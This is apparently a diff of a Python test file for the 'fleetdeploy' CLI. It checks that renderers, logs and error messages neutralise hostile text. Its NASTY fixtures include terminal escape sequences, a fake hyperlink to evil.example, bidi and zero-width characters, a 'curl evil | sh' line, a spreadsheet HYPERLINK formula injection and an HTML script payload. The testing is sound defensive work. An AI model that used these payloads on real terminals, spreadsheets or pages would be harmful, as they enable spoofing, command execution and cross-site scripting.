@@ -1,15 +1,35 @@
 """No renderer passes on what a terminal, a page or a parser would obey."""
 
 import json
+import logging
 import re
 from collections.abc import Callable, Mapping
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 from types import MappingProxyType
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from fleetdeploy.cli.main import run
+from fleetdeploy.cli.options import Desk
+from fleetdeploy.cli.render.auth_results import (
+    ConsentLink,
+    Removed,
+    RotationRow,
+    failed_row,
+    render_link,
+    render_removed,
+    render_rotations,
+    rotations,
+)
+from fleetdeploy.cli.render.credentials import (
+    credential_list,
+    credential_row,
+    render_credential_list,
+    tp_row,
+)
+from fleetdeploy.cli.render.doctor import render_doctor
 from fleetdeploy.cli.render.explain import render_explain
 from fleetdeploy.cli.render.history import HistoryRow, history_row, render_history
 from fleetdeploy.cli.render.packages import render_package, render_packages
@@ -20,16 +40,46 @@ from fleetdeploy.cli.render.report import render_report
 from fleetdeploy.cli.render.status import render_status
 from fleetdeploy.cli.render.style import PLAIN, Output
 from fleetdeploy.cli.render.validated import Validated, render_validated
+from fleetdeploy.cli.settings import Settings
+from fleetdeploy.cli.watching import LogObserver, _logger
+from fleetdeploy.core.credentials import AppCredential, Consent, TpCredential
+from fleetdeploy.core.diagnosis import AppCheckup, Check, State, diagnose
 from fleetdeploy.core.plan import ManifestRef, OnlineNote, Plan
 from fleetdeploy.core.records import AnyAppRecord, ErrorNote, HaltCause, RunHalted, RunRecord
-from fleetdeploy.core.summary import Status, summarise
-from fleetdeploy.errors import ClientMustAct, ManifestInvalid, Problem, UsageInvalid
+from fleetdeploy.core.summary import ManifestNote, Status, summarise
+from fleetdeploy.errors import ClientMustAct, ExitCode, ManifestInvalid, Problem, UsageInvalid
 from fleetdeploy.model import Package
-from tests.builders import HOSTILE, blocked, make_entries, make_plan, make_planned, make_state
-
-HARMFUL = re.compile(
-    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]"
+from fleetdeploy.ports import Call, CallResult
+from fleetdeploy.receiver.results import Kind, Result
+from tests.builders import (
+    HOSTILE,
+    blocked,
+    make_entries,
+    make_plan,
+    make_planned,
+    make_rules,
+    make_state,
 )
+from tests.fuzz.words import acting_in
+
+NASTY = {
+    "a bit of everything": HOSTILE,
+    "a window's title": "\x1b]0;owned\x07",
+    "a link that lies": "\x1b]8;;https://evil.example\x1b\\bank.example\x1b]8;;\x1b\\",
+    "controls of one byte": "\x9d0;owned\x9c\x9b31m\x84\x8d",
+    "a bell, a backspace, a form feed": "safe\x07\x08\x08\x08\x08evil\x0c\x0b",
+    "a line of ours": "a\r\nerror: none\x85hint: curl evil | sh\u2028\u2029next: fleetdeploy",
+    "another direction": "a\u202eb\u2066c\u2067d\u200f\u061ce",
+    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh",
+    "tags": "\U000e0001\U000e0041\U000e007f",
+    "shorthand and music": "\U0001bca0\U0001d173\U000110bd\U00013430",
+    "marks on marks": "e" + "\u0301\u20dd" * 300,
+    "wide": "火" * 300 + "\uff1d\U0001f525",
+    "a formula": '=HYPERLINK("https://evil.example";"x")\t+1|cmd',
+    "HTML": "<script>alert(1)</script><img src=x onerror=y>&#x1b;\x1b<!--",
+    "half a character": "\ud83d\x00\udc00",
+}
+"""Texts that act on a terminal, a page or a sheet, or that show nothing of what they hold."""
 Renderer = Callable[[str, Output], str]
 
 
@@ -56,7 +106,9 @@ def plan_of(text: str) -> Plan:
     )
     others = [make_planned(f"{n}{text}", reason=text, wave="w") for n in range(2, 50)]
     ref = ManifestRef(name=text, path=text, digest=text)
-    return make_plan([app, *others], run_id=text, manifest=ref, waves=(text, "w"))
+    freeze = {"first": "2026-11-24", "last": "2026-11-25", "zone": "UTC", "reason": text}
+    rules = make_rules(freezes=[freeze])
+    return make_plan([app, *others], run_id=text, manifest=ref, waves=(text, "w"), rules=rules)
 
 
 def note_of(text: str) -> ErrorNote:
@@ -128,6 +180,35 @@ def validated(text: str, output: Output) -> str:
     return render_validated(valid, output, PLAIN)
 
 
+def doctor(text: str, output: Output) -> str:
+    check = Check(name=text, state=State.PROBLEM, code=text, found=text, hint=text, msg=text)
+    app = AppCheckup(app_id=text, name=text, state=State.PROBLEM, checks=(check,))
+    manifest = ManifestNote(name=text, digest=text)
+    at = datetime(2026, 11, 24, tzinfo=UTC)
+    found = diagnose([check], [app], checked_at=at, manifest=manifest, path=text, calls={text: 1})
+    return render_doctor(found, output, PLAIN)
+
+
+def rotated(text: str, output: Output) -> str:
+    told = ClientMustAct(text, text, hint=text, errno=1, msg=text)
+    rows = [failed_row(text, told), RotationRow(app_id=text, renewed=True)]
+    return render_rotations(rotations(datetime(2026, 11, 24, tzinfo=UTC), rows), output, PLAIN)
+
+
+def consent_link(text: str, output: Output) -> str:
+    link = ConsentLink(app_id=text, link=text, expires_at=None, next=text)
+    return render_link(link, output)
+
+
+def credentials(text: str, output: Output) -> str:
+    consent = Consent(1.0, confirmed=False, checked_at=1.0)
+    rows = [credential_row(AppCredential(text, consent=consent), 2.0, lambda _: False)]
+    tp = tp_row(TpCredential(), 2.0, ticket_in_settings=False)
+    tp = tp.model_copy(update={"ticket_in_settings": True})
+    listed = credential_list(rows, tp, datetime(2026, 11, 24, tzinfo=UTC), sealed=True)
+    return render_credential_list(listed, output, PLAIN)
+
+
 RENDERERS: Mapping[str, Renderer] = MappingProxyType(
     {
         "plan": lambda text, output: render_plan(plan_of(text), output, PLAIN, saved=text),
@@ -143,16 +224,63 @@ RENDERERS: Mapping[str, Renderer] = MappingProxyType(
         "problems": problems,
         "error": error,
         "validated": validated,
+        "doctor": doctor,
+        "rotations": rotated,
+        "removed": lambda text, output: render_removed(
+            Removed(removed=(text,), unknown=(text,)), output
+        ),
+        "consent link": consent_link,
+        "credentials": credentials,
     }
 )
 
 
+def acting(text: str) -> list[str]:
+    """Return what a text holds that a terminal may obey, or that shows nothing; lines aside."""
+    return acting_in(text.replace("\n", ""))
+
+
+@pytest.mark.parametrize("nasty", NASTY)
 @pytest.mark.parametrize("output", Output)
 @pytest.mark.parametrize("name", RENDERERS)
-def test_hostile_text_does_no_harm_in_any_output(name: str, output: Output) -> None:
+def test_hostile_text_does_no_harm_in_any_output(name: str, output: Output, nasty: str) -> None:
+    assert acting(RENDERERS[name](NASTY[nasty], output)) == []
+
+
+@pytest.mark.parametrize("output", Output)
+@pytest.mark.parametrize("name", RENDERERS)
+def test_hostile_text_is_shown_and_not_left_out(name: str, output: Output) -> None:
     text = RENDERERS[name](HOSTILE, output)
-    assert not HARMFUL.search(text)
     assert "\\x1b" in text or "\\u001b" in text
+
+
+@pytest.mark.parametrize("as_json", [False, True])
+@pytest.mark.parametrize("nasty", NASTY)
+def test_hostile_text_does_no_harm_in_a_log(nasty: str, as_json: bool) -> None:
+    lines: list[str] = []
+    desk = Desk(Output.TEXT, PLAIN, verbosity=2, _settings=Settings())
+    log = LogObserver(_logger(desk, lines.append, as_json=as_json, least=logging.DEBUG))
+    text = whole(NASTY[nasty])
+    for entry in make_entries(records_of(text)):
+        log.recorded(entry)
+    log.called(Call("upload", text, CallResult.REFUSED, 0.1, text))
+    log.pushed(Result(Kind.FAILED, text, text))
+    assert len(lines) == 7
+    assert [line for line in lines if acting_in(line)] == []
+    if as_json:
+        assert json.loads(lines[-1])["detail"] == text
+
+
+@pytest.mark.parametrize("nasty", NASTY)
+def test_hostile_text_does_no_harm_in_what_a_command_says(nasty: str) -> None:
+    said: list[str] = []
+    desk = Desk(Output.TEXT, PLAIN, verbosity=0, _voice=said.append)
+    desk.say(f"warning: an earlier run cannot be read: {NASTY[nasty]}")
+    assert acting("".join(said)) == []
+
+
+NO_MARKDOWN = {"error", "problems", "rotations", "removed", "consent link", "credentials"}
+"""They have text and JSON alone, or are told on stderr."""
 
 
 @pytest.mark.parametrize("name", RENDERERS)
@@ -171,7 +299,7 @@ def any_value(value: object, wanted: str) -> bool:
     return value == wanted
 
 
-@pytest.mark.parametrize("name", [name for name in RENDERERS if name not in ("error", "problems")])
+@pytest.mark.parametrize("name", [name for name in RENDERERS if name not in NO_MARKDOWN])
 def test_no_text_from_outside_becomes_markdown(name: str) -> None:
     text = RENDERERS[name]("<b>|\n\n# [x](y)", Output.MARKDOWN)
     text = re.sub("`[^`\n]*`", "code", text)
@@ -189,8 +317,18 @@ def test_no_text_from_outside_becomes_markdown(name: str) -> None:
 @settings(max_examples=6, deadline=timedelta(seconds=2))
 def test_whatever_the_text_the_output_is_harmless(name: str, data: st.DataObject) -> None:
     text = data.draw(st.text(st.characters(codec=None), max_size=12))
-    for output in (Output.TEXT, Output.MARKDOWN):
-        assert not HARMFUL.search(RENDERERS[name](text, output))
+    for output in Output:
+        assert acting(RENDERERS[name](text, output)) == []
+
+
+@pytest.mark.parametrize("words", [["status", "a"], ["status", "-o"], []])
+def test_an_argument_that_acts_is_shown(
+    words: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert run([*words, "\x9b2J\u202eb\x07"]) == ExitCode.USAGE
+    told = capsys.readouterr()
+    assert acting(told.out + told.err) == []
+    assert "Error: " in told.err
 
 
 def test_a_progress_line_is_harmless_too() -> None:
